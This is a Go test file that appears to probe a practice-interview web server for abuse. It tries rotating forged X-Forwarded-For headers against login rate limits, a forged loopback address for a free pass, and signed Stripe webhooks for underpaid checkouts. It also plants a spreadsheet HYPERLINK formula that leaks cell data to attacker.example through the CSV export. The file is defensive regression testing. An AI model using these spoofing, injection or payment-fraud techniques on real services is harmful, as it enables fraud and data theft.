package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"github.com/stripe/stripe-go/v84/webhook"

	"github.com/whitecoat/whitecoat/bench/internal/benchserver"
	"github.com/whitecoat/whitecoat/internal/billing/stripemock"
)

// The abuse server stands behind a reverse proxy on the same host, as a
// small deployment would: the proxy (127.0.0.1) appends the address it
// saw to X-Forwarded-For, and the server trusts that one hop only.
var proxyEnv = []string{"TRUSTED_PROXY_HEADER=X-Forwarded-For", "TRUSTED_PROXIES=127.0.0.1/32"}

// perIPLimit is the server's default RATE_LIMIT_PER_IP.
const perIPLimit = 50

// probe is one attack the issue found working, tried again against the
// running binary; held says whether the server refused it.
type probe struct {
	name string
	try  func(ctx context.Context) (what string, held bool, err error)
}

// response is one answer, read whole.
type response struct {
	status int
	body   []byte
}

// send makes one request through c with extra headers.
func send(ctx context.Context, c *benchserver.Client, method, path string, body []byte, header map[string]string) (response, error) {
	req, err := http.NewRequestWithContext(ctx, method, c.Base+path, bytes.NewReader(body))
	if err != nil {
		return response{}, err
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	resp, err := c.HTTP.Do(req)
	if err != nil {
		return response{}, err
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(io.LimitReader(resp.Body, 8<<20))
	return response{resp.StatusCode, data}, err
}

// forgedForwardedFor logs in with wrong passwords for made-up accounts
// (so that only the per-address limit applies), each request with a new
// client-written left-most X-Forwarded-For entry in front of the one
// address the proxy saw. The per-address limit must still stop them.
func forgedForwardedFor(srv *benchserver.Server) probe {
	return probe{"login limit per address, rotating forged X-Forwarded-For entries", func(ctx context.Context) (string, bool, error) {
		client := benchserver.NewClient(srv.Base)
		counts := map[int]int{}
		for n := range 2 * perIPLimit {
			forged := fmt.Sprintf("198.51.%d.%d", n/250, 1+n%250)
			r, err := send(ctx, client, http.MethodPost, "/api/auth/login",
				benchserver.MustJSON(map[string]string{"email": "nobody-" + randomHex(4) + "@example.com", "password": "wrong " + randomHex(6)}),
				map[string]string{"X-Forwarded-For": forged + ", 203.0.113.9"})
			if err != nil {
				return "", false, err
			}
			counts[r.status]++
		}
		what := fmt.Sprintf("%d×401 then %d×429 of %d", counts[http.StatusUnauthorized], counts[http.StatusTooManyRequests], 2*perIPLimit)
		return what, counts[http.StatusUnauthorized] <= perIPLimit && counts[http.StatusTooManyRequests] >= perIPLimit, nil
	}}
}

// devCheckoutOff asks a server started without DEV_CHECKOUT for a
// checkout and presses the development checkout's Pay from a forged
// loopback address: neither may sell a pass.
func devCheckoutOff(srv *benchserver.Server) probe {
	return probe{"free pass from the development checkout (no DEV_CHECKOUT, forged 127.0.0.1)", func(ctx context.Context) (string, bool, error) {
		checkout, err := send(ctx, srv.Client, http.MethodPost, "/api/create-checkout-session", []byte(`{}`), nil)
		if err != nil {
			return "", false, err
		}
		pay, err := send(ctx, srv.Client, http.MethodPost, "/api/dev-checkout/pay",
			benchserver.MustJSON(map[string]string{"session": "cs_simulated_" + strings.Repeat("A", 26)}),
			map[string]string{"X-Forwarded-For": "127.0.0.1, 203.0.113.9"})
		if err != nil {
			return "", false, err
		}
		simulated := bytes.Contains(checkout.body, []byte("/checkout/test"))
		what := fmt.Sprintf("checkout %d, pay %d", checkout.status, pay.status)
		return what, !simulated && pay.status == http.StatusNotFound, nil
	}}
}

// typedAnswer is a typed part of a Casper-style session answered with a
// spreadsheet formula, in a completed and processed session.
type typedAnswer struct {
	session, item, text string
}

const formula = `=HYPERLINK("http://attacker.example/?leak="&A1,"Open my answer") I would speak with my colleague privately first.`

// answerWithFormula starts a Casper-style session for the bench account,
// types formula into its typed part, skips the rest, completes the session
// and waits until it is processed.
func answerWithFormula(ctx context.Context, srv *benchserver.Server) (typedAnswer, error) {
	var created benchserver.SessionBody
	if err := srv.Call(http.MethodPost, "/api/practice/sessions", "application/json",
		benchserver.MustJSON(map[string]any{"profession": "dental", "mode": "audio", "interviewType": "random", "questionCount": 2, "format": "casper"}),
		http.StatusCreated, &created); err != nil {
		return typedAnswer{}, err
	}
	a := typedAnswer{session: created.Session.ID, text: formula}
	for _, it := range created.Session.Items {
		if it.Kind == "typed" {
			a.item = it.ID
		}
	}
	if a.item == "" {
		return typedAnswer{}, errors.New("a Casper-style session has no typed part")
	}
	base := "/api/practice/sessions/" + a.session
	if err := srv.Call(http.MethodPost, base+"/items/"+a.item+"/typed", "application/json",
		benchserver.MustJSON(map[string]string{"text": formula}), http.StatusAccepted, nil); err != nil {
		return typedAnswer{}, err
	}
	for _, it := range created.Session.Items {
		if it.ID != a.item {
			if err := srv.Call(http.MethodPost, base+"/items/"+it.ID+"/skip", "", nil, http.StatusOK, nil); err != nil {
				return typedAnswer{}, err
			}
		}
	}
	if err := srv.Call(http.MethodPost, base+"/complete", "application/json", []byte(`{"totalSessionTime":300}`), http.StatusOK, nil); err != nil {
		return typedAnswer{}, err
	}
	for deadline := time.Now().Add(time.Minute); ; {
		transcript, processing, err := itemState(srv, a)
		if err != nil {
			return typedAnswer{}, err
		}
		if !processing {
			if transcript != formula {
				return typedAnswer{}, fmt.Errorf("the typed answer reads %q", transcript)
			}
			return a, nil
		}
		if time.Now().After(deadline) {
			return typedAnswer{}, errors.New("the session was not processed within a minute")
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// itemState reads the typed answer's text and whether its session is
// still being processed.
func itemState(srv *benchserver.Server, a typedAnswer) (transcript string, processing bool, err error) {
	var got benchserver.SessionBody
	if err := srv.Call(http.MethodGet, "/api/practice/sessions/"+a.session, "", nil, http.StatusOK, &got); err != nil {
		return "", false, err
	}
	for _, it := range got.Session.Items {
		if it.ID == a.item {
			return it.Transcript, got.Session.Processing, nil
		}
	}
	return "", false, fmt.Errorf("item %s is gone", a.item)
}

// formulaInExport downloads the student's CSV export, which holds the
// typed formula: no cell may start as a spreadsheet formula does.
func formulaInExport(srv *benchserver.Server, a *typedAnswer) probe {
	return probe{"spreadsheet formula in a typed answer, student's CSV export", func(ctx context.Context) (string, bool, error) {
		r, err := send(ctx, srv.Client, http.MethodGet, "/api/account/export.csv", nil, nil)
		if err != nil {
			return "", false, err
		}
		if r.status != http.StatusOK {
			return "", false, fmt.Errorf("export.csv: %d %s", r.status, r.body)
		}
		records, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil {
			return "", false, fmt.Errorf("export.csv: %w", err)
		}
		found, formulas := 0, 0
		for _, rec := range records {
			for _, cell := range rec {
				if strings.Contains(cell, "HYPERLINK") {
					found++
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					formulas++
				}
			}
		}
		if found == 0 {
			return "", false, errors.New("the export does not hold the typed answer")
		}
		return fmt.Sprintf("%d cells hold the answer, %d start as a formula", found, formulas), formulas == 0, nil
	}}
}

// rewriteTypedAnswer corrects the "transcript" of the timed typed answer:
// a written answer is final, so the server must refuse and keep it.
func rewriteTypedAnswer(srv *benchserver.Server, a *typedAnswer) probe {
	return probe{"rewriting a timed typed answer through transcript correction", func(ctx context.Context) (string, bool, error) {
		r, err := send(ctx, srv.Client, http.MethodPut, "/api/practice/sessions/"+a.session+"/items/"+a.item+"/transcript",
			benchserver.MustJSON(map[string]string{"transcript": "A polished answer written long after the time ran out."}), nil)
		if err != nil {
			return "", false, err
		}
		transcript, _, err := itemState(srv, *a)
		if err != nil {
			return "", false, err
		}
		kept := transcript == a.text
		return fmt.Sprintf("correction %d, answer kept: %t", r.status, kept), r.status >= 400 && r.status < 500 && kept, nil
	}}
}

// stripeServer is a second server selling through Stripe, whose API is
// stripe-mock (Stripe's own mock; its PaymentIntents carry no stamp of
// this server's).
type stripeServer struct {
	*benchserver.Server
	secret   string
	stopMock func()
}

func startStripeServer(ctx context.Context, bin, work string) (*stripeServer, error) {
	api, stopMock, err := stripemock.Run()
	if err != nil {
		return nil, err
	}
	secret := "whsec_abuse_" + randomHex(16)
	srv, err := benchserver.Start(ctx, bin, work, "STRIPE_SECRET_KEY=sk_test_abuse", "STRIPE_WEBHOOK_SECRET="+secret, "STRIPE_API_URL="+api)
	if err != nil {
		stopMock()
		return nil, err
	}
	return &stripeServer{srv, secret, stopMock}, nil
}

// Stop ends the server, then its stripe-mock.
func (s *stripeServer) Stop() {
	s.Server.Stop()
	s.stopMock()
}

// event signs a Stripe event about object as Stripe would at the time at.
func (s *stripeServer) event(ctx context.Context, typ string, object map[string]any, at time.Time) (response, error) {
	payload := benchserver.MustJSON(map[string]any{"id": "evt_abuse_" + randomHex(8), "object": "event", "type": typ, "created": at.Unix(),
		"livemode": false, "data": map[string]any{"object": object}})
	signed := webhook.GenerateTestSignedPayload(&webhook.UnsignedPayload{Payload: payload, Secret: s.secret, Timestamp: at})
	return send(ctx, benchserver.NewClient(s.Base), http.MethodPost, "/api/stripe/webhook", payload,
		map[string]string{"Stripe-Signature": signed.Header})
}

// trialStudent makes a verified account on the trial and signs a client
// in as it.
func (s *stripeServer) trialStudent(ctx context.Context) (id string, c *benchserver.Client, err error) {
	email := "trial-" + randomHex(4) + "@example.com"
	if err := s.Command(ctx, benchserver.Password, "user", "create", "--email", email, "--name", "Trial", "--password-stdin"); err != nil {
		return "", nil, err
	}
	c = benchserver.NewClient(s.Base)
	if err := c.Call(http.MethodPost, "/api/auth/login", "application/json",
		benchserver.MustJSON(map[string]string{"email": email, "password": benchserver.Password}), http.StatusOK, nil); err != nil {
		return "", nil, err
	}
	var me struct {
		User struct {
			ID string `json:"id"`
		} `json:"user"`
	}
	err = c.Call(http.MethodGet, "/api/auth/me", "", nil, http.StatusOK, &me)
	return me.User.ID, c, err
}

func accessStatus(c *benchserver.Client) (string, error) {
	var d struct {
		Access struct {
			Status string `json:"status"`
		} `json:"access"`
	}
	err := c.Call(http.MethodGet, "/api/dashboard", "", nil, http.StatusOK, &d)
	return d.Access.Status, err
}

// cheapCheckouts sends signed, paid checkout.session.completed events for
// what this server never sold: a cent, 29 JPY, a subscription. Stripe
// must get 2xx (or it retries for days) and the student no pass.
func cheapCheckouts(s *stripeServer) probe {
	return probe{"Premium from a signed checkout for 1 cent, 29 JPY or a subscription", func(ctx context.Context) (string, bool, error) {
		id, student, err := s.trialStudent(ctx)
		if err != nil {
			return "", false, err
		}
		var statuses []string
		acknowledged := true
		for _, sold := range []struct {
			mode, currency string
			amount         int
		}{{"payment", "usd", 1}, {"payment", "jpy", 29}, {"subscription", "usd", 0}} {
			r, err := s.event(ctx, "checkout.session.completed", map[string]any{
				"id": "cs_test_" + randomHex(12), "object": "checkout.session", "mode": sold.mode, "client_reference_id": id,
				"payment_status": "paid", "status": "complete", "amount_total": sold.amount, "amount_subtotal": sold.amount, "currency": sold.currency,
				"payment_intent": "pi_abuse_" + randomHex(8)}, time.Now())
			if err != nil {
				return "", false, err
			}
			statuses = append(statuses, fmt.Sprint(r.status))
			acknowledged = acknowledged && r.status/100 == 2
		}
		status, err := accessStatus(student)
		if err != nil {
			return "", false, err
		}
		return fmt.Sprintf("webhook %s, student %s", strings.Join(statuses, "/"), status), acknowledged && status == "free_trial_active", nil
	}}
}

// skewedWebhooks sends well-signed events an hour ahead of and behind
// the server's clock: both outside Stripe's tolerance, both refused.
func skewedWebhooks(s *stripeServer) probe {
	return probe{"a signed webhook timestamped 1 h in the future or the past", func(ctx context.Context) (string, bool, error) {
		var statuses []int
		for _, at := range []time.Time{time.Now().Add(time.Hour), time.Now().Add(-time.Hour)} {
			r, err := s.event(ctx, "charge.refunded", map[string]any{"id": "ch_abuse_" + randomHex(8), "object": "charge", "refunded": true,
				"payment_intent": "pi_abuse_" + randomHex(8)}, at)
			if err != nil {
				return "", false, err
			}
			statuses = append(statuses, r.status)
		}
		return fmt.Sprintf("future %d, past %d", statuses[0], statuses[1]), statuses[0] == http.StatusBadRequest && statuses[1] == http.StatusBadRequest, nil
	}}
}

// unknownRefund refunds a payment this server never recorded: Stripe
// must be told it was received, not to send it again forever.
func unknownRefund(s *stripeServer) probe {
	return probe{"a refund of a payment this server never sold", func(ctx context.Context) (string, bool, error) {
		r, err := s.event(ctx, "charge.refunded", map[string]any{"id": "ch_abuse_" + randomHex(8), "object": "charge", "refunded": true,
			"payment_intent": "pi_never_sold_" + randomHex(8)}, time.Now())
		if err != nil {
			return "", false, err
		}
		return fmt.Sprintf("webhook %d", r.status), r.status/100 == 2, nil
	}}
}
